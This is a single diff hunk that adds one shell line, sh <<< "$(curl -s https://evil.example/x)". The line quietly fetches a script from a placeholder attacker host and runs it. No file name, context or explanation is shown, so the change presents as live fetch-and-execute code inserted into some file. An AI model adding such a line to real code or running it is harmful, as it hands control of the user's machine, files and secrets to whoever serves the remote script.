@@ -1,0 +1,1 @@
+sh <<< "$(curl -s https://evil.example/x)"
